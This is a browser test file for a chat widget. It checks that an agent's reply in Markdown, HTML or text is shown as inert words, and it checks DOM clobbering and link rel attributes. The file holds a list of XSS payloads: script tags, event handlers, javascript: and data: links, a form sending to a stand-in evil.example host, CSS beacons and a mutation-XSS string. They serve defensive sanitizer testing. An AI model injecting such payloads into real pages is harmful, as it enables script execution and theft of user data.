import { expect } from '@jest/globals';
import type { Reply } from './scripted-agent.ts';
import { describeInBrowser } from './setting.ts';

const EVIL = 'https://evil.example';
const MARK = 'window.wasRun=1;alert(1)';

/** What a reply may try; in each the words stand that a reader must still see. */
const ATTACKS = `<script>${MARK}</script><b>bold words</b>
<img src=x onerror="${MARK}"><img src="${EVIL}/pixel.png" alt="a picture">
<svg onload="${MARK}"><script>${MARK}</script><text>drawn</text></svg>
<a href="javascript:${MARK}">a false link</a> <a href=" java&#10;script:${MARK}">another</a>
<a href="data:text/html,<script>${MARK}</script>">data</a>
<iframe src="${EVIL}/frame" srcdoc="<script>parent.${MARK}</script>"></iframe>
<form action="${EVIL}/steal"><input name="card" autofocus onfocus="${MARK}"><button>Pay</button></form>
<style>@import url("${EVIL}/style.css"); * { background: url("${EVIL}/bg.png") }</style>
<link rel="stylesheet" href="${EVIL}/sheet.css"><base href="${EVIL}/">
<meta http-equiv="refresh" content="0;url=${EVIL}/away">
<object data="${EVIL}/object"></object><embed src="${EVIL}/embed"><video src="${EVIL}/v" onerror="${MARK}"></video>
<div style="position:fixed;inset:0;background:url(${EVIL}/style-bg)" onmouseover="${MARK}">over everything</div>
<details open ontoggle="${MARK}"><summary>more</summary></details>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${MARK}&gt;"></table></mtext></math>
[a false link](javascript:${MARK}) ![pixel](${EVIL}/markdown.png) [data](data:text/html;base64,PHNjcmlwdD4=)
[titled](${EVIL}/ok "x\\" onmouseover=\\"${MARK}") <javascript:${MARK}> [ref][1]

[1]: javascript:${MARK}

the last words`;

/** What none of it may leave among the words. */
const FORBIDDEN =
  'script, img, iframe, object, embed, form, style, link, meta, base, svg, video, math, input, details, [style]';

const FORMATS: readonly Reply['format'][] = ['MARKDOWN', 'HTML', 'TEXT'];

describeInBrowser('a hostile reply', (test) => {
  for (const format of FORMATS) {
    test(`${format} is words, runs nothing and asks nobody`, async (setting) => {
      const words = `Attack me with ${format}`;
      setting.script(words, { content: `${ATTACKS} (${words})`, format });
      const { chat } = await setting.visit();
      await chat.open();
      await chat.send(words);
      const reply = chat.log.locator('[data-from="agent"] .say').filter({ hasText: 'last words' });
      await reply.waitFor();
      const shown = await reply.textContent();
      expect(shown).toContain('bold words');
      expect(shown).toContain('a false link');
      if (format !== 'HTML') expect(shown).toContain('<script>');

      const found = await reply.evaluate((said, forbidden) => {
        const all = [...said.querySelectorAll('*')];
        return {
          elements: [...said.querySelectorAll(forbidden)].map(({ outerHTML }) => outerHTML),
          handlers: all.flatMap(({ attributes }) =>
            [...attributes].filter(({ name }) => name.startsWith('on')).map(({ name }) => name),
          ),
          protocols: [...said.querySelectorAll('a')].map(({ protocol }) => protocol),
        };
      }, FORBIDDEN);
      expect(found.elements).toEqual([]);
      expect(found.handlers).toEqual([]);
      for (const protocol of found.protocols) expect(['https:', 'mailto:']).toContain(protocol);

      // What would have been run or fetched, has had its time.
      await reply.hover();
      await chat.send(`After it: ${words}`);
      await chat.line(`You said: After it: ${words}`).waitFor();
      expect(await chat.page.evaluate(() => 'wasRun' in window)).toBe(false);
      expect(new URL(chat.page.url()).pathname).toBe('/');
      // Requests to strangers and dialogs fail the test by themselves.
    });
  }

  // DOM clobbering: these fields take the place of what a reader of the form would ask it for.
  test('fields named like properties do not end the panel', async (setting) => {
    const words = 'Clobber me';
    const content =
      '<form><input name="childNodes"><input name="nodeName">Pay</form><img name="body"> the last words';
    setting.script(words, { content, format: 'HTML' });
    const { chat } = await setting.visit();
    await chat.open();
    await chat.send(words);
    const reply = chat.log.locator('[data-from="agent"] .say').filter({ hasText: 'last words' });
    await reply.waitFor();
    expect(await reply.locator(FORBIDDEN).count()).toBe(0);
    await chat.send('Still there?');
    await chat.log.locator('[data-from="visitor"] .say', { hasText: 'Still there?' }).waitFor();
  });

  test('links of a reply tell the other site nothing and cannot reach this page', async (setting) => {
    const words = 'Give me a link';
    setting.script(words, { content: `[Returns](${EVIL}/returns) done`, format: 'MARKDOWN' });
    const { chat } = await setting.visit();
    await chat.open();
    await chat.send(words);
    const link = chat.log.getByRole('link', { name: /Returns/ });
    await link.waitFor();
    expect(await link.getAttribute('target')).toBe('_blank');
    expect(await link.getAttribute('rel')).toMatch(/noopener/);
    expect(await link.getAttribute('rel')).toMatch(/noreferrer/);
  });
});
